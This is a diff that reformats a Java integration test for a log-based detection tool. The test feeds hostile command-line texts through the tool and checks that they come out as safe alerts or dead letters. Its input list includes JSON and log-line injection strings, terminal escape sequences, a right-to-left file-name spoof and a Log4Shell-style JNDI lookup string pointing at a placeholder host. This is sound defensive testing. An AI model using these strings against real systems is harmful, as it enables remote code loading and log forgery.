@@ -1,11 +1,11 @@
 package io.github.rcdetect;
 
-import io.github.rcdetect.config.JobConfig;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.databind.node.ObjectNode;
+import io.github.rcdetect.config.JobConfig;
 import io.github.rcdetect.parse.ParserLimits;
 import io.github.rcdetect.testing.HugeLines;
 import io.github.rcdetect.testing.OutputLines;
@@ -52,42 +52,40 @@ class HostileInputITCase {
     private static final String C1_CONTROLS = controls(0x80, 0x9f);
 
     /** Attacker-controlled texts; each becomes the command line of a Windows and a Linux Run Command child. */
-    static final List<String> HOSTILE =
-            List.of(
-                    "cmd /c echo one\ntwo",
-                    "cmd /c echo one\rtwo\r\n",
-                    "line\u2028separator\u2029paragraph\u0085next-line",
-                    "nul\u0000in the middle",
-                    "all C0: " + C0_CONTROLS,
-                    "del\u007f and C1: " + C1_CONTROLS,
-                    "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \b\b\b",
-                    "\"}, {\"rule\":{\"id\":\"R9\"},\"event\":{\"kind\":\"alert\"}}",
-                    "\"}\n{\"@timestamp\":\"2026-03-10T10:00:00.000Z\",\"rule\":{\"id\":\"R1\"}}",
-                    "back\\slash \\\" \\u0041 \\n",
-                    "${jndi:ldap://198.51.100.1/a} ${env:HOME} %n %s {}",
-                    "\uFEFFbom \u202Egpj.exe \u200B zero width",
-                    "utf-8: é ü ß 中文 עברית \uD83D\uDE00 \uFFFD \uFFFF",
-                    "lone surrogates \uD800 and \uDFFF",
-                    "2026-03-10 10:00:00,000 WARN  LogSink - dead letter {\"forged\":true}",
-                    // At the string limit exactly: the longest text a record may carry.
-                    "x".repeat(ParserLimits.DEFAULT_MAX_STRING_LENGTH),
-                    "\u2028".repeat(200_000),
-                    "é".repeat(300_000));
+    static final List<String> HOSTILE = List.of(
+            "cmd /c echo one\ntwo",
+            "cmd /c echo one\rtwo\r\n",
+            "line\u2028separator\u2029paragraph\u0085next-line",
+            "nul\u0000in the middle",
+            "all C0: " + C0_CONTROLS,
+            "del\u007f and C1: " + C1_CONTROLS,
+            "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \b\b\b",
+            "\"}, {\"rule\":{\"id\":\"R9\"},\"event\":{\"kind\":\"alert\"}}",
+            "\"}\n{\"@timestamp\":\"2026-03-10T10:00:00.000Z\",\"rule\":{\"id\":\"R1\"}}",
+            "back\\slash \\\" \\u0041 \\n",
+            "${jndi:ldap://198.51.100.1/a} ${env:HOME} %n %s {}",
+            "\uFEFFbom \u202Egpj.exe \u200B zero width",
+            "utf-8: é ü ß 中文 עברית \uD83D\uDE00 \uFFFD \uFFFF",
+            "lone surrogates \uD800 and \uDFFF",
+            "2026-03-10 10:00:00,000 WARN  LogSink - dead letter {\"forged\":true}",
+            // At the string limit exactly: the longest text a record may carry.
+            "x".repeat(ParserLimits.DEFAULT_MAX_STRING_LENGTH),
+            "\u2028".repeat(200_000),
+            "é".repeat(300_000));
 
-    @TempDir Path directory;
+    @TempDir
+    Path directory;
 
     private record Output(List<String> alertLines, List<String> deadLetterLines, RunSummary summary) {}
 
     private Output run(Path activity, Path process) throws Exception {
         Path alerts = directory.resolve("out/alerts.ndjson");
         Path deadLetters = directory.resolve("out/dead-letters.ndjson");
-        RunSummary summary =
-                BoundedRun.run(
-                        JobConfig.fromArgs(
-                                "--activity", activity.toString(),
-                                "--process", process.toString(),
-                                "--alerts", alerts.toString(),
-                                "--dead-letter", deadLetters.toString()));
+        RunSummary summary = BoundedRun.run(JobConfig.fromArgs(
+                "--activity", activity.toString(),
+                "--process", process.toString(),
+                "--alerts", alerts.toString(),
+                "--dead-letter", deadLetters.toString()));
         return new Output(asciiLines(alerts), asciiLines(deadLetters), summary);
     }
 
@@ -135,7 +133,13 @@ class HostileInputITCase {
             commandLineByHost.put(linux.toLowerCase(Locale.ROOT), text);
         }
         // One character over the string limit: a dead letter, not a truncated command line.
-        line(process, Records.windowsChild(Records.at(9_000), "win-over", "cmd.exe", "y".repeat(ParserLimits.DEFAULT_MAX_STRING_LENGTH + 1)));
+        line(
+                process,
+                Records.windowsChild(
+                        Records.at(9_000),
+                        "win-over",
+                        "cmd.exe",
+                        "y".repeat(ParserLimits.DEFAULT_MAX_STRING_LENGTH + 1)));
         Output output = run(write("activity.ndjson", activity), write("process.ndjson", process));
 
         assertThat(output.summary().alerts().get("R1")).isEqualTo(2L * HOSTILE.size());
@@ -146,7 +150,9 @@ class HostileInputITCase {
             ObjectNode alert = OutputLines.parseOneAsciiLine(line);
             // host.name is the host key, which SPEC defines lower-cased.
             String host = alert.at("/host/name").textValue();
-            assertThat(commandLineByHost).as("alert for an unknown host %s", OutputLines.clip(host)).containsKey(host);
+            assertThat(commandLineByHost)
+                    .as("alert for an unknown host %s", OutputLines.clip(host))
+                    .containsKey(host);
             String expected = commandLineByHost.get(host);
             JsonNode commandLine = alert.at("/process/command_line");
             if (alert.at("/rule/id").asText().equals("R1")) {
@@ -157,12 +163,16 @@ class HostileInputITCase {
             }
             alertsByHost.merge(host, 1, Integer::sum);
         }
-        assertThat(alertsByHost).hasSize(2 * HOSTILE.size()).allSatisfy((host, count) -> assertThat(count).isEqualTo(2));
+        assertThat(alertsByHost)
+                .hasSize(2 * HOSTILE.size())
+                .allSatisfy((host, count) -> assertThat(count).isEqualTo(2));
 
         assertThat(output.deadLetterLines()).hasSize(1);
-        JsonNode overLimit = OutputLines.parseOneAsciiLine(output.deadLetterLines().get(0));
+        JsonNode overLimit =
+                OutputLines.parseOneAsciiLine(output.deadLetterLines().get(0));
         assertThat(overLimit.at("/error/type").asText()).isEqualTo("limit_exceeded");
-        assertThat(overLimit.at("/error/message").asText()).startsWith("String value length (1048577) exceeds the maximum allowed (1048576");
+        assertThat(overLimit.at("/error/message").asText())
+                .startsWith("String value length (1048577) exceeds the maximum allowed (1048576");
     }
 
     @Test
@@ -172,7 +182,9 @@ class HostileInputITCase {
         line(activity, Records.runCommand(Records.at(0), "win-utf8", "c1", "Start"));
         line(process, Records.windowsChild(Records.at(5), "win-utf8", "whoami.exe", "whoami"));
         List<byte[]> invalid = new ArrayList<>();
-        for (byte[] bad : List.of(new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xC0, (byte) 0xAE}, new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80})) {
+        for (byte[] bad : List.of(new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xC0, (byte) 0xAE}, new byte[] {
+            (byte) 0xED, (byte) 0xA0, (byte) 0x80
+        })) {
             String marker = "\u0001MARK\u0001";
             byte[] record = raw(Records.windowsChild(Records.at(6), "win-utf8", "cmd.exe", "cmd /c echo " + marker));
             byte[] withBad = replace(record, raw(marker), bad);
@@ -184,16 +196,21 @@ class HostileInputITCase {
 
         assertThat(output.alertLines()).hasSize(2);
         for (String line : output.alertLines()) {
-            assertThat(OutputLines.parseOneAsciiLine(line).at("/process/command_line").toString()).contains("whoami");
+            assertThat(OutputLines.parseOneAsciiLine(line)
+                            .at("/process/command_line")
+                            .toString())
+                    .contains("whoami");
         }
         assertThat(output.deadLetterLines()).hasSize(invalid.size());
         for (int i = 0; i < invalid.size(); i++) {
-            JsonNode deadLetter = OutputLines.parseOneAsciiLine(output.deadLetterLines().get(i));
+            JsonNode deadLetter =
+                    OutputLines.parseOneAsciiLine(output.deadLetterLines().get(i));
             assertThat(deadLetter.at("/error/type").asText()).isEqualTo("invalid_json");
             assertThat(deadLetter.at("/error/message").asText()).startsWith("not valid UTF-8: byte ");
             assertThat(deadLetter.at("/origin/line").asLong()).isEqualTo(i + 2);
             assertThat(deadLetter.at("/original_encoding").asText()).isEqualTo("base64");
-            assertThat(Base64.getDecoder().decode(deadLetter.at("/original").asText())).isEqualTo(invalid.get(i));
+            assertThat(Base64.getDecoder().decode(deadLetter.at("/original").asText()))
+                    .isEqualTo(invalid.get(i));
         }
     }
 
@@ -218,7 +235,8 @@ class HostileInputITCase {
         long started = System.nanoTime();
         Output output = run(activity, process);
         long millis = (System.nanoTime() - started) / 1_000_000;
-        System.out.printf("HostileInputITCase: bounded run over a 100 MB line and 100,000-deep records in %d ms%n", millis);
+        System.out.printf(
+                "HostileInputITCase: bounded run over a 100 MB line and 100,000-deep records in %d ms%n", millis);
 
         assertThat(output.summary().alerts().get("R1")).isEqualTo(2L);
         assertThat(output.summary().alerts().get("R2")).isEqualTo(2L);
@@ -228,8 +246,9 @@ class HostileInputITCase {
             JsonNode deadLetter = OutputLines.parseOneAsciiLine(line);
             assertThat(deadLetter.at("/error/type").asText()).isEqualTo("limit_exceeded");
             assertThat(deadLetter.at("/original_truncated").asBoolean()).isTrue();
-            deadLetters.add(deadLetter.at("/origin/stream").asText() + ":" + deadLetter.at("/origin/line").asLong()
-                    + ":" + deadLetter.at("/original_bytes").asLong());
+            deadLetters.add(deadLetter.at("/origin/stream").asText() + ":"
+                    + deadLetter.at("/origin/line").asLong() + ":"
+                    + deadLetter.at("/original_bytes").asLong());
         }
         assertThat(deadLetters)
                 .containsExactly(
@@ -262,9 +281,10 @@ class HostileInputITCase {
         StringBuilder text = new StringBuilder(json.length());
         for (int i = 0; i < json.length(); i++) {
             char c = json.charAt(i);
-            boolean paired =
-                    Character.isHighSurrogate(c) && i + 1 < json.length() && Character.isLowSurrogate(json.charAt(i + 1))
-                            || Character.isLowSurrogate(c) && i > 0 && Character.isHighSurrogate(json.charAt(i - 1));
+            boolean paired = Character.isHighSurrogate(c)
+                            && i + 1 < json.length()
+                            && Character.isLowSurrogate(json.charAt(i + 1))
+                    || Character.isLowSurrogate(c) && i > 0 && Character.isHighSurrogate(json.charAt(i - 1));
             text.append(Character.isSurrogate(c) && !paired ? String.format("\\u%04x", (int) c) : String.valueOf(c));
         }
         return text.toString().getBytes(StandardCharsets.UTF_8);
